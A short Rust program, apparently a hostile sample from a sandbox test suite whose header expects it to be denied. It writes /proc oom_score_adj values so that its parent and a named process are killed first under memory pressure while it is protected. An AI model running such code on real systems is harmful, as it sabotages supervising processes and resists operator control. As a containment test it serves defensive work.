// hostile: marks its parent and another process as the first to be killed when memory is short, and itself as the last
// verdict: denied
// leaves: nothing
// layers: L2
// control: did it

use std::{env, fs};

unsafe extern "C" {
    safe fn getppid() -> i32;
}

fn main() {
    let bait = env::args().nth(2).unwrap();
    for (who, score) in [(getppid().to_string(), "1000"), (bait, "1000"), ("self".to_owned(), "-1000")] {
        match fs::write(format!("/proc/{who}/oom_score_adj"), score) {
            Ok(()) => println!("did it: {who} has {score}"),
            Err(error) => println!("denied: {error}"),
        }
    }
}
